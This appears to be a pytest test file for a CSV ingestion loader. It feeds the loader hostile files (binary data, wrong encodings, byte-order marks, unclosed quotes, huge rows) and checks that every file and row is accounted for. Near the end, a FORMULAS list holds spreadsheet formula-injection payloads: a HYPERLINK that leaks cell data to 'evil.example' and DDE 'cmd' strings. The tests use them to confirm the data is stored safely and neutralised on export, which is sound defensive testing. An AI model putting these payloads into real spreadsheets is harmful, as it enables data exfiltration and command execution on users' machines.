"""Hostile input: a corpus generated here (never hand-pasted) of every file-level and row-level class
of docs/specification/submission-format.md plus deliberately hostile files, loaded by `flsdb load`
(src/flsdb/ingest/).

Every case must end in a clear, specific message and lose nothing: for every file,
rows read = rows accepted + rows rejected, and every file of the landing folder is accounted for
(loaded, rejected, unchanged or refused) in the load result.

The classes of the submission format themselves are asserted one by one in test_row_checks.py
(ROW_CASES, kept in ingest_env.py) and test_decoding.py (the file-level cases); here they are reused to build one
mixed corpus, which is loaded in one go (the batched, combined staging path) and must give exactly
what loading each file alone gives.
The 10,000-file and 50 MB cases are marked `slow` but run by default (and in CI).

The other hostile cases are in the test file of the module that handles them: test_discovery.py
(names, links, SQL metacharacters, many files, files that change), test_decoding.py,
test_row_checks.py, test_recheck.py and test_operational_failures.py (round 2 of issue 12).
Their shared helpers (all_accounted, landing_entries, rows_text, HEADER) stay here.
"""

from __future__ import annotations

import csv
import io
import os
import random
import time
from pathlib import Path

import pytest

from flsdb import safe_csv
from flsdb.ingest import discovery, load_landing, loader

from ingest_env import (  # noqa: F401  (load_env is a fixture)
    COLS, ROW_CASES, assert_counts_balance, csv_line, csv_text, good_row, load_env)

SEED = 20250607
HEADER = csv_text([])


def rows_text(rows, cols=None, term="\n") -> str:
    text = csv_text(rows, cols)
    return text.replace("\n", term) if term != "\n" else text


def landing_entries(landing: Path) -> set[str]:
    """Every file (and link, and folder that cannot be listed) under landing, found independently
    of the loader's discovery, except the exempt top-level _reference/ folder."""
    found: set[str] = set()

    def unlistable(err):
        found.add(Path(err.filename).relative_to(landing).as_posix())

    for dirpath, dirnames, filenames in os.walk(landing, onerror=unlistable):
        here = Path(dirpath)
        if here == landing and "_reference" in dirnames:
            dirnames.remove("_reference")
        for name in filenames + [d for d in dirnames if (here / d).is_symlink()]:
            found.add((here / name).relative_to(landing).as_posix())
    return found


def all_accounted(env, result) -> None:
    """Every file of the landing folder has an outcome; every one not loaded is recorded in
    raw.load_files with its reason; nothing is lost; reasons are specific."""
    names = {discovery._printable(r) for r in landing_entries(env.landing)}
    assert {f.source_file for f in result.files} == names
    for f in result.files:
        if f.status in ("rejected", "refused", "skipped"):
            assert f.reason and len(f.reason) >= 15, f
        if f.status == "loaded":
            assert f.rows_read == f.rows_accepted + f.rows_rejected, f
    recorded = set(env.q("SELECT source_file, status, rejection_reason FROM raw.load_files "
                         "WHERE status IN ('skipped', 'refused')"))
    for f in result.files:
        if f.status in ("skipped", "refused"):
            assert any(r[0] == f.source_file and r[1] == f.status for r in recorded), f
    escaped = [r[0] for r in env.q("SELECT source_file_escaped FROM raw.load_files")]
    assert None not in escaped
    assert_counts_balance(env)


# ---------------------------------------------------------------------------------------------
# The mixed corpus: every docs/specification/submission-format.md class in one landing folder, loaded at once
# ---------------------------------------------------------------------------------------------

def dataset_md_corpus() -> dict[str, bytes]:
    """Every file-level and row-level class of docs/specification/submission-format.md, one file each, plus
    valid files."""
    files: dict[str, bytes] = {}
    for i, (over, code, _col, _needle) in enumerate(ROW_CASES):
        rows = [good_row(100 * i + j) for j in range(3)]
        rows.insert(1, good_row(100 * i + 50, **over))
        files[f"rows/{i:02d}_{code}.csv"] = csv_text(rows).encode()
    files["rows/wrong_column_count.csv"] = (
        HEADER + csv_line(good_row(1)) + "\n" + csv_line(good_row(2))[:40] + "\n"
        + csv_line(good_row(3)) + ",extra\n" + csv_line(good_row(4)) + "\n").encode()
    files["files/empty.csv"] = b""
    files["files/blank_lines.csv"] = b"\n\n \r\n"
    files["files/pdf.csv"] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"
    files["files/workbook.xlsx"] = b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(1, 200))
    files["files/utf16.csv"] = HEADER.encode("utf-16")
    files["files/no_header.csv"] = (csv_line(good_row(7)) + "\n").encode()
    files["files/missing_required.csv"] = csv_text(
        [good_row(8)], [c for c in COLS if c != "Record ID"]).encode()
    files["files/duplicate_header.csv"] = csv_text([good_row(9)], COLS + ["1.03 Gender"]).encode()
    files["files/bad_encoding.csv"] = HEADER.encode() + b"RX1,\x81\x8d\x90,\n"
    files["files/windows1252.csv"] = csv_text(
        [good_row(10, **{"1.04 Post Code": "B1 1AA", "Record ID": "Zoë-1"})]).encode("cp1252")
    files["files/header_only.csv"] = HEADER.encode()
    files["files/bom.csv"] = b"\xef\xbb\xbf" + csv_text([good_row(11)]).encode()
    return files


def _snapshot_by_file(env):
    """raw tables keyed by file content, without load order and load time (which depend on
    batching and on when things ran)."""
    return {
        "load_files": env.q(
            "SELECT file_sha256, source_file, file_size_bytes, detected_encoding, status, "
            "rejection_reason, rows_read, rows_accepted, rows_rejected, file_extract_date "
            "FROM raw.load_files ORDER BY ALL"),
        "records": env.q(
            "SELECT * EXCLUDE (_load_order, _loaded_at) FROM raw.submission_records ORDER BY ALL"),
        "rejects": env.q(
            "SELECT * EXCLUDE (_load_order, _loaded_at) FROM raw.submission_rejects ORDER BY ALL"),
    }


def load_batched_and_one_at_a_time(env, corpus: dict[str, bytes], tmp_path, monkeypatch):
    """Write the corpus, load it in one batch (small files combined into one DuckDB read, grouped
    commits forced), check every file is accounted for, and assert that a reference load of one
    batch per file with no combining (the plain per-file path) gives exactly the same raw tables.
    Returns the batched load's result."""
    for name, data in corpus.items():
        env.write(name, data)
    monkeypatch.setattr(loader._Loader, "SMALL_BATCH_FILES", 4)   # force grouped commits too
    result = env.load()
    all_accounted(env, result)
    batched = _snapshot_by_file(env)
    monkeypatch.setattr(loader._Loader, "BATCH_FILES", 1)
    monkeypatch.setattr(loader._Loader, "COMBINE_MAX_BYTES", 0)
    ref_wh = tmp_path / "ref.duckdb"
    load_landing(env.landing, ref_wh, registry_path=env.registry, progress=False)
    env.warehouse, saved = ref_wh, env.warehouse
    try:
        assert _snapshot_by_file(env) == batched
    finally:
        env.warehouse = saved
    return result


def test_mixed_corpus_batched_equals_one_file_at_a_time(load_env, tmp_path, monkeypatch):
    """The whole corpus of the submission format's classes loaded in one batch (small files
    combined into one DuckDB read, grouped commits) gives exactly what loading every file on its own gives."""
    corpus = dataset_md_corpus()
    result = load_batched_and_one_at_a_time(load_env, corpus, tmp_path, monkeypatch)

    outcome = {f.source_file: f for f in result.files}
    assert all(outcome[n].status == "rejected" for n in corpus
               if n.startswith("files/") and n not in (
                   "files/windows1252.csv", "files/header_only.csv", "files/bom.csv"))
    for i, (_over, code, _col, needle) in enumerate(ROW_CASES):
        (line, got, _c, reason, _raw), = load_env.rejects(f"rows/{i:02d}_{code}.csv")
        assert (line, got) == (3, code) and needle in reason
    assert load_env.q("SELECT count(*) FROM raw.submission_records WHERE \"Record ID\" = 'Zoë-1'") \
        == [(1,)]


def round3_corpus() -> dict[str, bytes]:
    """Issue 19's "messages that do not say why", with bytes of their own: other separators,
    CR-only and mixed line ends with quoted line breaks, repeated byte-order marks, UTF-16 and
    UTF-32 with and without a byte-order mark (the cases one by one: test_decoding.py)."""
    def line(row, delimiter=","):
        buf = io.StringIO()
        csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerow(
            [row.get(c, "") for c in COLS])
        return buf.getvalue()[:-2]

    head = dict(zip(COLS, COLS))
    rows = [good_row(300), good_row(301, **{"Record ID": "Q-1\nQ-2"}), good_row(302)]

    def text(end="\n", delimiter=",", body=rows):
        return end.join(line(r, delimiter) for r in [head, *body]) + end

    bom = b"\xef\xbb\xbf"
    return {
        "r3/semicolon_excel.csv": text(delimiter=";").encode(),
        "r3/semicolon_bom_bom.csv": bom * 2 + text("\r\n", ";").encode(),
        "r3/tab_export.txt": text(delimiter="\t").encode(),
        "r3/classic_mac_quoted_lf.csv": text("\r").encode(),
        "r3/classic_mac_quoted_cr.csv": text("\r", body=[good_row(303, **{"Record ID": "M\rN"})]).encode(),
        "r3/crlf_quoted_lf.csv": text("\r\n").encode(),
        "r3/lf_quoted_crlf.csv": text("\n", body=[good_row(304, **{"Record ID": "P\r\nQ"})]).encode(),
        "r3/double_bom.csv": bom * 2 + text().encode(),
        "r3/utf16le_no_mark.csv": text().encode("utf-16-le"),
        "r3/utf16be_no_mark.csv": text().encode("utf-16-be"),
        "r3/utf16_with_mark.csv": text("\r\n").encode("utf-16"),
        "r3/utf32_with_mark.csv": text().encode("utf-32"),
    }


def test_round3_corpus_says_why_and_batched_equals_one_file_at_a_time(load_env, tmp_path,
                                                                      monkeypatch):
    corpus = round3_corpus()
    result = load_batched_and_one_at_a_time(load_env, corpus, tmp_path, monkeypatch)

    outcome = {f.source_file: f for f in result.files}
    expected_reason = {
        "r3/semicolon_excel.csv": "semicolon-delimited", "r3/semicolon_bom_bom.csv": "semicolon-delimited",
        "r3/tab_export.txt": "tab-delimited", "r3/utf16le_no_mark.csv": "UTF-16 (little-endian)",
        "r3/utf16be_no_mark.csv": "UTF-16 (big-endian)", "r3/utf16_with_mark.csv": "UTF-16",
        "r3/utf32_with_mark.csv": "UTF-32"}
    for name, needle in expected_reason.items():
        assert outcome[name].status == "rejected" and needle in outcome[name].reason, outcome[name]
    for name in set(corpus) - set(expected_reason):
        f = outcome[name]
        assert (f.status, f.rows_read, f.rows_rejected) == ("loaded", 3 if "quoted_cr" not in name
                                                            and "quoted_crlf" not in name else 1, 0), f
        assert not any("mixed line endings" in w or "carriage return" in w for w in f.warnings), f
    assert "2 byte-order marks" in "".join(outcome["r3/double_bom.csv"].warnings)
    assert "2 byte-order marks" in "".join(outcome["r3/semicolon_bom_bom.csv"].warnings)
    values = {r[0] for r in load_env.q('SELECT "Record ID" FROM raw.submission_records')}
    assert {"Q-1\nQ-2", "M\rN", "P\r\nQ"} <= values
    dump = repr(load_env.snapshot())
    assert "\ue000" not in dump and "\\ue000" not in dump and "\ufeff" not in dump


# ---------------------------------------------------------------------------------------------
# Hostile files, one class per case
# ---------------------------------------------------------------------------------------------

def _random_bytes(with_nul: bool) -> bytes:
    rng = random.Random(SEED + with_nul)
    data = rng.randbytes(64 * 1024)
    return data if with_nul else data.replace(b"\x00", b"\x01")


@pytest.mark.parametrize("name,content,needle", [
    ("random_binary.csv", _random_bytes(True), "binary data (NUL bytes)"),
    ("random_bytes_no_nul.csv", _random_bytes(False), "Unreadable encoding"),
    ("zero_bytes.csv", b"", "The file is empty."),
    ("only_bom.csv", b"\xef\xbb\xbf", "empty"),
    ("gzip.csv.gz", b"\x1f\x8b\x08\x00" + bytes(100), "gzip"),
    ("one_line_no_newline_no_header.csv", b"lorem ipsum " * 100, "No header row"),
])
def test_hostile_whole_file_rejects(load_env, name, content, needle):
    load_env.write(name, content)
    result = load_env.load()
    status, reason, read, acc, rej, _ = load_env.file_row(name)
    assert (status, read, acc, rej) == ("rejected", 0, 0, 0)
    assert needle in reason, reason
    all_accounted(load_env, result)
    assert load_env.q("SELECT count(*) FROM raw.submission_records") == [(0,)]


def test_header_only_is_loaded_with_zero_rows(load_env):
    load_env.write("h.csv", HEADER)
    result = load_env.load()
    assert load_env.file_row("h.csv")[:5] == ("loaded", None, 0, 0, 0)
    all_accounted(load_env, result)


@pytest.mark.slow
def test_50mb_single_line_without_header_is_rejected_quickly(load_env):
    load_env.write("huge.csv", b"x" * (50 * 1024 * 1024))
    t0 = time.perf_counter()
    result = load_env.load()
    seconds = time.perf_counter() - t0
    status, reason, *_ = load_env.file_row("huge.csv")
    assert status == "rejected" and "No header row" in reason and len(reason) < 400
    all_accounted(load_env, result)
    assert seconds < 60, seconds


@pytest.mark.slow
def test_50mb_single_row_is_one_reject_and_its_neighbours_load(load_env):
    huge = good_row(2, **{"2.01 Height": "9" * (50 * 1024 * 1024)})
    load_env.write("huge_row.csv", csv_text([good_row(1), huge, good_row(3)]))
    t0 = time.perf_counter()
    result = load_env.load()
    seconds = time.perf_counter() - t0
    assert load_env.file_row("huge_row.csv")[:5] == ("loaded", None, 3, 2, 1)
    (line, code, _col, reason, raw_len), = load_env.q(
        "SELECT _line_number, reject_code, column_name, reject_reason, length(raw_line) "
        "FROM raw.submission_rejects")
    assert (line, code) == (3, "wrong_column_count")
    assert "over the limit of 10,000,000 bytes for one row" in reason
    assert raw_len == len(csv_line(huge))          # the raw row is kept, whole
    all_accounted(load_env, result)
    assert seconds < 60, seconds


def test_quote_never_closed_keeps_the_rest_of_the_file_as_one_reject(load_env):
    rows = [good_row(i) for i in range(200)]
    lines = csv_text(rows).split("\n")
    lines[3] = lines[3].replace("R00002", '"R00002 never closed', 1)   # file line 4
    text = "\n".join(lines)
    load_env.write("open_quote.csv", text)
    result = load_env.load()
    assert load_env.file_row("open_quote.csv")[:5] == ("loaded", None, 3, 2, 1)
    (line, code, _c, reason, raw_line), = load_env.rejects("open_quote.csv")
    assert (line, code) == (4, "wrong_column_count")
    assert "opened on line 4 is never closed" in reason and "lines 4 to 201" in reason
    assert raw_line == "\n".join(lines[3:201])   # nothing lost: the rest of the file, verbatim
    all_accounted(load_env, result)


def test_mixed_line_endings(load_env):
    rows = [good_row(i) for i in range(6)]
    body = [csv_line(r) for r in rows]
    text = HEADER.rstrip("\n") + "\r\n" + body[0] + "\n" + body[1] + "\r\n" + body[2] + "\n\n" \
        + body[3] + "\r\n" + body[4] + "\n" + body[5]           # no final newline
    load_env.write("mixed.csv", text)
    result = load_env.load()
    assert load_env.file_row("mixed.csv")[:5] == ("loaded", None, 6, 6, 0)
    assert load_env.q("SELECT _line_number, \"Record ID\" FROM raw.submission_records "
                      "ORDER BY 1") == [(2, "R00000"), (3, "R00001"), (4, "R00002"),
                                        (6, "R00003"), (7, "R00004"), (8, "R00005")]
    assert load_env.q("SELECT count(*) FROM raw.submission_records WHERE "
                      "\"Record ID\" LIKE '%' || chr(13) || '%' OR \"2.01 Height\" LIKE "
                      "'%' || chr(13)") == [(0,)]
    assert result.files[0].warnings == ["mixed line endings (3 CRLF and 4 LF); all were read as "
                                        "line ends"]
    all_accounted(load_env, result)


def test_lone_carriage_return_inside_a_value_is_data_kept_exactly(load_env):
    """An unquoted CR inside a value of an LF (or CRLF) file is data: kept exactly, with a
    warning; an answer padded with it reads as the code. (DuckDB's reader would split the row at
    it, so it travels as a placeholder and is put back.)"""
    rows = [good_row(0), good_row(1, **{"Record ID": "R00\r001"}),
            good_row(2, **{"1.11 SiteFirstFrac": "\rHip\r", "FLS Code": "RX1\r"})]
    for name, text in [("cr_value.csv", csv_text(rows)),
                       ("cr_value_crlf.csv", csv_text(rows).replace("\n", "\r\n"))]:
        load_env.write(name, text)
    result = load_env.load()
    all_accounted(load_env, result)
    for name in ("cr_value.csv", "cr_value_crlf.csv"):
        assert load_env.file_row(name)[:5] == ("loaded", None, 3, 3, 0)
    stored = sorted(load_env.q('SELECT DISTINCT "Record ID", "1.11 SiteFirstFrac" FROM '
                               "raw.submission_records"))
    assert stored == sorted([("R00000", "Hip"), ("R00\r001", "Hip"), ("R00002", "\rHip\r")])
    assert any("carriage return(s) (CR) inside values on line(s) 3, 4" in w
               for f in result.files for w in f.warnings)
    assert "\ue000" not in str(load_env.q("SELECT * FROM raw.submission_records"))


def test_old_mac_carriage_return_only_line_endings(load_env):
    """Lone CR line ends (classic Mac): read as line ends, or refused whole - never mis-split."""
    text = csv_text([good_row(0), good_row(1)]).replace("\n", "\r")
    load_env.write("cr.csv", text)
    result = load_env.load()
    status, reason, read, acc, rej, _ = load_env.file_row("cr.csv")
    if status == "loaded":
        assert (read, acc, rej) == (2, 2, 0)
    else:
        assert "CSV" in reason or "header" in reason.lower(), reason
    all_accounted(load_env, result)


def test_bom_in_the_middle_two_exports_joined(load_env):
    first = csv_text([good_row(0), good_row(1)])
    second = "\ufeff" + csv_text([good_row(2), good_row(3)])
    load_env.write("joined.csv", first + second)
    result = load_env.load()
    assert load_env.file_row("joined.csv")[:5] == ("loaded", None, 5, 4, 1)
    (line, code, _c, reason, raw_line), = load_env.rejects("joined.csv")
    assert line == 4 and code == "invalid_date"
    assert reason.startswith("This row repeats the header row")
    assert raw_line.startswith("\ufeffFLS Code")
    all_accounted(load_env, result)


def test_bom_inside_a_value_is_shown_not_hidden(load_env):
    load_env.write("bomval.csv", csv_text([good_row(0), good_row(1, **{"FLS Code": "\ufeffRX1"})]))
    load_env.load()
    (_l, code, _c, reason, _r), = load_env.rejects("bomval.csv")
    assert code == "unknown_fls_code" and "'<U+FEFF>RX1'" in reason


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


def test_formula_injection_is_loaded_as_data(load_env):
    rows = [good_row(i, **{"Record ID": f, "1.03 Gender": f, "3.02 DXANotOrdered": f})
            for i, f in enumerate(FORMULAS)]
    load_env.write("formula.csv", csv_text(rows))
    result = load_env.load()
    assert load_env.file_row("formula.csv")[:5] == ("loaded", None, 5, 5, 0)
    got = load_env.q('SELECT "Record ID", "1.03 Gender" FROM raw.submission_records ORDER BY '
                     "_line_number")
    assert got == [(f, f) for f in FORMULAS]
    all_accounted(load_env, result)


def test_safe_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    for f in FORMULAS + ["=1+1", " =1", "@A1", "\r=1", "\uff1dSUM(A1)"]:
        assert safe_csv.neutralise(f) == "'" + f
        assert not safe_csv.is_dangerous(safe_csv.neutralise(f))
    for ok in ["Hip", "-3.2", "+44", "1e-5", "-", "", 42, -1.5, None, "a=b", "Don't know"]:
        expected = ok if not (isinstance(ok, str) and ok == "-") else "'-"
        assert safe_csv.neutralise(ok) == expected
    path = safe_csv.write_csv(tmp_path / "x.csv", ["a", "b"], [[f, -3.2] for f in FORMULAS])
    assert safe_csv.dangerous_cells(path) == []
    back = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert [r[0] for r in back[1:]] == ["'" + f for f in FORMULAS]
